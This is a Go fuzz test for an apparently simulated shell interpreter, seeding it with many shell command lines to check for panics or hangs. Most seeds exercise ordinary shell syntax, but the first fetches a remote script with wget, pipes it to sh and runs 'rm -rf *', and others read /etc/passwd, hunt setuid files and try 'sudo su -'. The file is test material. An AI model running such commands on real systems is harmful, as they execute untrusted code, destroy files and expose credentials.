package shell

import (
	"context"
	"io"
	"strings"
	"testing"
	"time"
)

// FuzzRun looks for lines that make the shell panic or go on for ever.
func FuzzRun(f *testing.F) {
	for _, line := range []string{
		"cd /tmp; wget -q http://203.0.113.9/a.sh -O- | sh; rm -rf *", "for i in $(seq 3); do echo $((i*2)) >> /tmp/x; done; cat /tmp/x | sort -rn | head -n 1",
		"a=(1 2 3); echo ${a[@]:1} ${#a} ${a/1/2} ${a^^} ${b:=x}; [[ $b =~ ^x$ ]] && case $b in x|y) echo ok;; esac", "cat <<EOF | awk -F: '{print $1}'\na:b\nEOF",
		"f() { local x=$1; return $x; }; f 3 || echo $?", "printf '%5s|%-5d|%x\\n' a 1 255; echo -e '\\x41\\n'", "grep -E 'a|b' /etc/passwd | sed 's/a/b/g' | cut -d: -f1-3 | tr a-z A-Z | uniq -c",
		"awk 'function f(a,i){a[1]=i; return i?f(a,i-1):a[1]} BEGIN{while((getline l<\"/etc/passwd\")>0)n++; print n|\"sort\"; \"id\"|getline; print f(x,3) $1}'", "sed -n ':a;N;$!ba;s/\\n/ /gp;/x/,+2{G;h;D}' /etc/hosts; sed 'y/ab/ba/;2~3!d;$!s/.*/\\U&/2' /etc/passwd",
		"find /etc ! -type d -a \\( -name 'h*' -o -perm /4000 -size -2k \\) -printf '%p %m\\n' -exec echo {} +; expr 3 \\* \\( 2 + 1 \\) : '.*'; diff <(seq 3) <(seq 2 4)", "declare -A m=([a]=1); declare -i n=2+2; local x; export -p; declare -f; getopts a: o -a; printf '%*.*f|%q|%b' 5 2 1.5 'a b' '\\x41'",
		"set -eux -o pipefail; trap 'echo $?' EXIT ERR; exec 3>/tmp/x 4</etc/passwd; read -ru 4 l; echo $l >&3; false | true", "ps -eo pid,comm --sort=-pid; sort -t: -k3,3nr -k1.2 /etc/passwd; date -d '2020-01-01 3 days ago' +%j; chmod -R u=rwX,go-w,+t /tmp; tr -cs a-z '\\n'",
		"ls -la / | wc -l; find / -name '*.conf' -type f 2>/dev/null; chmod +x x; ./x", "dd if=/etc/passwd bs=10 count=2 | base64 -d; head -c 5 /etc/hosts; tail -n +2 /etc/hosts", "sudo su -; su; passwd; exit 3",
	} {
		f.Add(line)
	}
	sys := SystemOf(host(f, "linux", "debian"))
	f.Fuzz(func(t *testing.T, line string) {
		ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
		defer cancel()
		sh := NewMachine(sys).New(Options{User: "root", Interactive: true})
		began := time.Now()
		sh.Run(ctx, line, strings.NewReader("input\n"), io.Discard, io.Discard)
		if took := time.Since(began); took > 20*time.Second {
			t.Errorf("it took %v", took)
		}
	})
}
